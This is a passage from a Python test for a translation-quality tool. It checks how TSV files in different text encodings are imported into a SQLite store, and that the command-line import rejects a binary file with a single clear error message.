    url = f"sqlite:///{tmp_path / 'desk.sqlite3'}"
    db = store.open_db(url)
    assert exchange.import_tsv(db, tmp_path / "utf16.tsv", "p")["marks"] == 326
    (_, row), = list(mqm.read_tsv(tmp_path / "cp1252.tsv"))
    assert row["source"] == "Café crème" and mqm.split_span(row["target"]) == ("Café crème", 0, 4)
    db.dispose()
    (tmp_path / "binary.tsv").write_bytes(bytes(range(256)) * 4)
    done = subprocess.run([*MTCHECK, "desk", "import", str(tmp_path / "binary.tsv"), "--db", url, "--project", "p"],
                          env=ENV, capture_output=True, text=True)
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1
    assert "binary.tsv: cannot read the file as text" in done.stderr
